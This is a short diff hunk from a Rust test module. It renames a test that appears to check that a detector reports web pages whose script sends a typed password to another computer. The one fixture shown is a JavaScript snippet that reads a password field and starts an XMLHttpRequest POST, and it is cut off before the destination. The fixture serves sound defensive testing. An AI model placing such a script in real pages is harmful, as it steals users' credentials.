@@ -430,7 +430,7 @@ mod tests {
     }
 
     #[test]
-    fn a_password_that_goes_to_another_computer_is_told() {
+    fn a_password_that_goes_to_another_computer_is_reported() {
         let page = |script: &str| format!("<form><input name=password></form><script>{script}</script>");
         for script in [
             "var p = document.getElementById('password').value; var x = new XMLHttpRequest(); x.open('POST', \
